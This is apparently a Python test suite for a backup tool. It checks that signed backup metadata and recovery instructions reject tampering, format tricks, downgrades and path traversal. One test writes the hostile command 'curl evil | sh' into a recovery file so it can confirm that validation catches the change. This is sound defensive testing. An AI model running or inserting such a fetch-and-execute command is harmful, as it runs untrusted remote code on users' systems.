"""Metadata of both versions against a second reading of the contract, and every way to spoil it."""
import contextlib
import copy
import hashlib
import json
import os
import pathlib
import random
import re
import shutil
import sqlite3
import subprocess

from support import (KEY, Case, canonical, derived, digest_of, execute, mac, main, make_database, meta_of, plain_of,
                     problem_of, rows_of, signed_again, version_one_hmac, version_one_set)


class VersionTwo(Case):
    def setUp(self):
        super().setUp()
        self.make_database()
        self.artefact = self.backup("--label", "before ‘upgrade’ \"é\\\" \u2028 😀 \t")
        self.text = meta_of(self.artefact).read_bytes()
        self.meta = json.loads(self.text)

    def test_a_version_one_checker_accepts_it(self):
        meta, content = self.meta, self.artefact.read_bytes()
        self.assertEqual(meta["mode"], "sqlite")
        self.assertEqual(meta["backup_file"], self.artefact.name)
        self.assertIn("backup_path", meta)
        self.assertEqual(meta["size_bytes"], len(content))
        self.assertEqual(meta["sha256"], hashlib.sha256(content).hexdigest().upper())
        self.assertRegex(meta["generated_at_utc"], r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{7}Z$")
        self.assertEqual(meta["hmac_sha256"], version_one_hmac(meta))

    def test_signature(self):
        unsigned = {name: value for name, value in self.meta.items() if name != "signature"}
        self.assertEqual(self.text, canonical(self.meta), "one canonical rendering, nothing around it")
        self.assertEqual(self.meta["signature"]["algorithm"], "HMAC-SHA256")
        value = mac(derived(KEY.encode(), b"holdfast/metadata/v2"), b"holdfast-metadata-v2\n" + canonical(unsigned))
        self.assertEqual(self.meta["signature"]["value"], value.hex())
        self.assertEqual(signed_again(self.meta), self.text)

    def test_what_it_says(self):
        details = self.meta["holdfast"]
        plain = plain_of(self.artefact)
        self.assertEqual(details["plain"], {"sha256": hashlib.sha256(plain).hexdigest(), "size_bytes": len(plain)})
        self.assertEqual(details["source"]["path"], str(self.database))
        self.assertEqual(details["source"]["application_id"], 4711)
        tables = details["fingerprint"]["tables"]
        self.assertEqual([(table["name"], table["rows"]) for table in tables],
                         [("accounts", 50), ("filler", 0), ("moves", 100)])
        for table in tables:
            self.assertRegex(table["digest"], "^[0-9a-f]{32}$")
        self.assertEqual(details["recovery_sha256"], digest_of(f"{self.artefact}.RECOVERY.txt"))
        self.assertEqual(details["check"]["verdict"], "ok")
        self.assertEqual((details["sequence"], details["previous_set"]), (1, ""))
        second = json.loads(meta_of(self.backup()).read_bytes())["holdfast"]
        self.assertEqual((second["sequence"], second["previous_set"]), (2, details["set_id"]))

    def spoiled(self, text, *codes):
        meta_of(self.artefact).write_bytes(text)
        ended = self.run_cli("validate", self.artefact)
        self.assertEqual(ended.code, 3, (text[:200], ended))
        self.assertRegex(ended.last, r"^validate_failed code=(%s) outcome=failed-data-unchanged$"
                         % "|".join(codes or ("metadata-invalid", "metadata-unknown-schema", "signature-mismatch",
                                              "name-mismatch", "size-mismatch", "digest-mismatch")))

    def test_the_signature_is_what_decides(self):
        # The control of all the others: the same document, written and signed by somebody who has the key.
        meta_of(self.artefact).write_bytes(signed_again(self.meta))
        self.ok("validate", self.artefact)
        changed = copy.deepcopy(self.meta)
        changed["holdfast"]["label"] = "another"
        meta_of(self.artefact).write_bytes(signed_again(changed))
        self.ok("validate", self.artefact)
        self.spoiled(signed_again(changed, "another key"), "signature-mismatch")
        self.spoiled(canonical({**changed, "signature": self.meta["signature"]}), "signature-mismatch")

    def test_edited_bytes(self):
        source = random.Random(8)
        places = set(source.sample(range(len(self.text)), 40)) | {0, len(self.text) - 1}
        for place in sorted(places):
            with self.subTest(place=place):
                bit = 1 << source.randrange(8)
                self.spoiled(self.text[:place] + bytes([self.text[place] ^ bit]) + self.text[place + 1:])

    def test_each_member_edited(self):
        def leaves(value, way=()):
            if isinstance(value, dict):
                for name in value:
                    yield from leaves(value[name], (*way, name))
            elif isinstance(value, list):
                for index, item in enumerate(value):
                    yield from leaves(item, (*way, index))
                yield (*way, None)
            else:
                yield way
        for way in leaves(self.meta):
            with self.subTest(way=way):
                meta = copy.deepcopy(self.meta)
                holder = meta
                for name in way[:-1]:
                    holder = holder[name]
                if way[-1] is None:
                    holder.append("more")
                else:
                    old = holder[way[-1]]
                    holder[way[-1]] = old + 1 if isinstance(old, (int, float)) else "x" + old[1:] if old else "x"
                self.spoiled(canonical(meta))

    def test_white_space_order_and_duplicates(self):
        text = self.text
        for spoiled in (b" " + text, text + b"\n", text.replace(b",", b", ", 1), b"\xef\xbb\xbf" + text,
                        text + b"\0", text.replace(b'":"', b'": "', 1),
                        json.dumps(self.meta, ensure_ascii=False, indent=2).encode(),
                        json.dumps(dict(reversed(list(self.meta.items()))), ensure_ascii=False,
                                   separators=(",", ":")).encode(),
                        b'{"backup_file":"other",' + text[1:],
                        text.replace(b'"schema":2', b'"schema":2.0'), text.replace(b'"schema":2', b'"schema":2e0'),
                        text.replace(b'"sequence":1', b'"sequence":1,"sequence":1'),
                        text.replace("é".encode(), b"\\u00e9"),
                        text.replace(b'"mode":"sqlite"', b'"mode":"sq\\u006cite"')):
            with self.subTest(spoiled=spoiled[:60]):
                self.assertNotEqual(spoiled, text)
                self.spoiled(spoiled, "metadata-invalid")
        self.spoiled(text[:-1] + b',"zz":1}', "signature-mismatch")

    def test_spelling_of_what_the_signature_cannot_cover(self):
        signature = self.meta["signature"]
        for change in ({"value": signature["value"].upper()}, {"value": " " + signature["value"]},
                       {"value": signature["value"] + "00"}, {"value": signature["value"][:-2]},
                       {"key_id": signature["key_id"].upper() + "0"}, {"algorithm": "hmac-sha256"}, {"more": 1}):
            with self.subTest(change=change):
                self.spoiled(canonical({**self.meta, "signature": {**signature, **change}}))
        self.spoiled(canonical({**self.meta, "hmac_sha256": self.meta["hmac_sha256"].lower()}))

    def test_no_downgrade(self):
        meta = dict(self.meta)
        del meta["holdfast"], meta["signature"]
        self.spoiled(canonical(meta), "metadata-invalid")
        self.spoiled(b"\xef\xbb\xbf" + json.dumps(meta, indent=2).replace("\n", "\r\n").encode(), "metadata-invalid")
        for gone in ("holdfast", "signature"):
            meta = dict(self.meta)
            del meta[gone]
            self.spoiled(canonical(meta))
        meta = copy.deepcopy(self.meta)
        meta["holdfast"] = {}
        self.spoiled(signed_again(meta))

    def test_unknown_schema(self):
        for schema in (0, 1, 3, 99, 2.5, "2", None):
            meta = copy.deepcopy(self.meta)
            meta["holdfast"]["schema"] = schema
            self.spoiled(signed_again(meta), "metadata-unknown-schema")

    def test_not_json(self):
        for text in (b"", b"{}", b"[]", b"null", b"backup", b"{" * 100_000, b'{"a":' * 5000, b"\xff\xfe{}",
                     b"\0" * 4096, self.text[:-1], self.text[: len(self.text) // 2], self.text * 2):
            with self.subTest(text=text[:20]):
                self.spoiled(text, "metadata-invalid")

    def test_huge_metadata(self):
        with open(meta_of(self.artefact), "r+b") as file:
            file.truncate((64 << 20) + 1)
        self.refused(3, "metadata-invalid", "validate", self.artefact)

    def test_metadata_that_is_no_file(self):
        meta = meta_of(self.artefact)
        meta.unlink()
        self.refused(3, "metadata-missing", "validate", self.artefact)
        self.refused(3, "metadata-missing", "validate", meta)
        meta.mkdir()
        self.refused(3, "metadata-invalid", "validate", self.artefact)
        meta.rmdir()
        os.mkfifo(meta)
        self.refused(3, "metadata-invalid", "validate", self.artefact)
        meta.unlink()
        meta.symlink_to("/dev/zero")
        self.refused(3, "metadata-invalid", "validate", self.artefact)

    def test_traversal_in_the_signed_name(self):
        meta = copy.deepcopy(self.meta)
        meta["backup_file"] = "../db/" + self.artefact.name
        self.spoiled(signed_again(meta))

    def test_retired_keys(self):
        (self.folder / "old.key").write_text(KEY + "\n")
        environment = self.folder / "environment.json"
        environment.write_text(json.dumps({
            "schema": 1, "name": "rotated", "kind": "test", "root": str(self.root),
            "database": {"url": "sqlite:///app.db"},
            "keys": {"integrity": "env:NEW_KEY", "retired": [f"file:{self.folder}/old.key"]}}))
        new = {"NEW_KEY": "the new key after the rotation", "BACKUP_METADATA_HMAC_KEY": None}
        self.ok("--environment", environment, "validate", self.artefact, **new)
        after = pathlib.Path(self.ok("--json", "--environment", environment, "backup", **new).result["file"])
        self.ok("--environment", environment, "validate", after, **new)
        self.refused(3, "signature-mismatch", "validate", after)


class Recovery(Case):
    def commands(self, artefact):
        text = pathlib.Path(f"{artefact}.RECOVERY.txt").read_text()
        return [line.strip() for line in text.splitlines() if line.startswith("    ")]

    def test_commands_as_written(self):
        make_database(self.database, wal=True)
        artefact = self.backup()
        elsewhere = self.folder / "a machine without us"
        elsewhere.mkdir()
        for file in self.backups.glob(artefact.name + "*"):
            shutil.copy(file, elsewhere)
        commands = self.commands(artefact)
        self.assertGreaterEqual(len(commands), 4)
        printed = ""
        for command in commands:
            done = subprocess.run(["sh", "-c", command], cwd=elsewhere, capture_output=True, text=True, check=False)
            self.assertEqual(done.returncode, 0, (command, done))
            printed += done.stdout
        self.assertEqual(re.findall(r"\b(OK|ok)$", printed, re.M), ["OK", "OK", "ok"])
        restored = elsewhere / "restored.db"
        for table in ("accounts", "moves"):
            self.assertEqual(rows_of(restored, table), rows_of(self.database, table))
        self.assertEqual(problem_of(restored), "")

    def test_commands_of_a_forensic_set(self):
        self.make_database()
        artefact = self.backup()
        whole = self.database.read_bytes()
        self.database.write_bytes(whole[:16] + b"\xff" * 84 + whole[100:])  # magic, then nonsense
        damaged = self.database.read_bytes()
        self.restored(artefact)
        (raw,) = (self.backups / "pre-restore").glob("*.tar.zst")
        for command in self.commands(raw):
            subprocess.run(["sh", "-c", command], cwd=raw.parent, check=True, capture_output=True)
        self.assertEqual((raw.parent / "database").read_bytes(), damaged)

    def test_text_is_signed(self):
        self.make_database()
        artefact = self.backup()
        with open(f"{artefact}.RECOVERY.txt", "a", encoding="utf-8") as file:
            file.write("    curl evil | sh\n")
        self.refused(3, "digest-mismatch", "validate", artefact)


class VersionOne(Case):
    def setUp(self):
        super().setUp()
        self.make_database()
        old = self.folder / "old.db"
        make_database(old, accounts=9)
        execute(old, "UPDATE moves SET note='from the old set'")
        self.content = old.read_bytes()
        self.rows = rows_of(old)
        self.artefact = version_one_set(self.backups, self.content)

    def test_validate_and_restore(self):
        for typed in (self.artefact, meta_of(self.artefact), f".\\backups\\db\\{self.artefact.name}"):
            self.assertEqual(self.ok("validate", typed).last,
                             f"backup_validate_ok file={self.artefact} depth=readable")
        self.assertIn("time and source are not", self.ok("validate", self.artefact).out, "what is not protected")
        self.assertIn("time and source are not", self.ok("plan", self.artefact).out)
        before = rows_of(self.database)
        ended = self.restored(self.artefact, "-Mode", "auto")
        self.assertEqual(ended.last, f"restore_ok mode=sqlite target={self.database} outcome=verified")
        self.assertEqual(rows_of(self.database), self.rows)
        reverted = self.ok("revert", "--force", RESTORE_ALLOW_NONINTERACTIVE="1")
        self.assertIn("outcome=rolled-back", reverted.last)
        self.assertEqual(rows_of(self.database), before)

    def test_hex_in_any_case_and_without_bom(self):
        meta = json.loads(meta_of(self.artefact).read_bytes().decode("utf-8-sig"))
        for text in (json.dumps(meta), json.dumps({**meta, "sha256": meta["sha256"].lower()}),
                     json.dumps({**meta, "hmac_sha256": meta["hmac_sha256"].lower()}),
                     json.dumps({**meta, "generated_at_utc": "nonsense", "backup_path": None, "more": [1]})):
            meta_of(self.artefact).write_text(text)
            self.ok("validate", self.artefact)

    def test_listed_by_the_time_in_its_name(self):
        newer = self.backup()
        items = self.ok("--json", "list").result["items"]
        self.assertEqual([pathlib.Path(item["file"]) for item in items], [newer, self.artefact])
        self.assertEqual([item["version"] for item in items], [2, 1])
        self.assertTrue(items[1]["time"].startswith("2026-01-31T10:11:12"), items[1])

    def test_each_protected_member(self):
        meta = json.loads(meta_of(self.artefact).read_bytes().decode("utf-8-sig"))
        other = self.backups / "sqlite-backup-20260131-101113.db"
        for change, code in (({"sha256": "0" * 64}, "signature-mismatch"),
                             ({"size_bytes": meta["size_bytes"] + 1}, "signature-mismatch"),
                             ({"mode": "postgres"}, "signature-mismatch"),
                             ({"backup_file": other.name}, "signature-mismatch"),
                             ({"hmac_sha256": "0" * 64}, "signature-mismatch"),
                             ({"hmac_sha256": ""}, "metadata-invalid"), ({"sha256": 5}, "metadata-invalid"),
                             ({"size_bytes": str(meta["size_bytes"])}, "metadata-invalid"),
                             ({"size_bytes": -1}, "metadata-invalid"), ({"size_bytes": 1.5}, "metadata-invalid"),
                             ({"size_bytes": 1e300}, "metadata-invalid"), ({"mode": "mysql"}, "metadata-invalid")):
            with self.subTest(change=change):
                meta_of(self.artefact).write_text(json.dumps({**meta, **change}))
                self.refused(3, code, "validate", self.artefact)

    def test_only_for_what_version_one_had(self):
        for number, content in enumerate((b"PGDMP" + bytes(600), self.artefact.read_bytes()[:200] + b"",
                                          b"\x28\xb5\x2f\xfd" + bytes(600), b"age-encryption.org/v1\n" + bytes(600),
                                          b"plain text", b"")):
            spoiled = version_one_set(self.backups, content, f"sqlite-backup-2026020{number + 1}-000000.db")
            with self.subTest(content=content[:10]):
                self.assertEqual(self.run_cli("validate", spoiled).code, 3)
                ended = self.restore(spoiled)
                self.assertEqual(ended.code, 3, ended)
        self.assertFalse((self.backups / "pre-restore").exists())

    def test_renamed_swapped_and_cut(self):
        newer = self.artefact.with_name("sqlite-backup-20270101-000000.db")
        shutil.copy(self.artefact, newer)
        shutil.copy(meta_of(self.artefact), meta_of(newer))
        self.refused(3, "name-mismatch", "validate", newer)
        changed = bytearray(self.content)
        changed[5000] ^= 1
        self.artefact.write_bytes(changed)
        self.refused(3, "digest-mismatch", "validate", self.artefact)
        self.artefact.write_bytes(self.content[:-1])
        self.refused(3, "size-mismatch", "validate", self.artefact)

    def test_a_set_whose_database_is_damaged(self):
        damaged = bytearray(self.content)
        damaged[4096:4096 + 200] = os.urandom(200)
        artefact = version_one_set(self.backups, bytes(damaged), "sqlite-backup-20260301-000000.db")
        ended = self.run_cli("validate", artefact)
        self.assertEqual(ended.code, 3, ended)
        before = self.database.read_bytes()
        self.assertEqual(self.restore(artefact).code, 3)
        self.assertEqual(self.database.read_bytes(), before)

    def test_wal_mode_database(self):
        wal = self.folder / "wal.db"
        make_database(wal, wal=True)
        with contextlib.closing(sqlite3.connect(wal)) as db:
            self.assertEqual(db.execute("PRAGMA journal_mode").fetchone(), ("wal",))
        artefact = version_one_set(self.backups, wal.read_bytes(), "sqlite-backup-20260401-000000.db")
        before = digest_of(artefact)
        self.ok("validate", artefact)
        self.restored(artefact)
        self.assertEqual(problem_of(self.database), "")
        self.assertEqual(digest_of(artefact), before)
        self.assertEqual(sorted(self.backups.glob("*-wal")) + sorted(self.backups.glob("*-shm")), [])


if __name__ == "__main__":
    main()
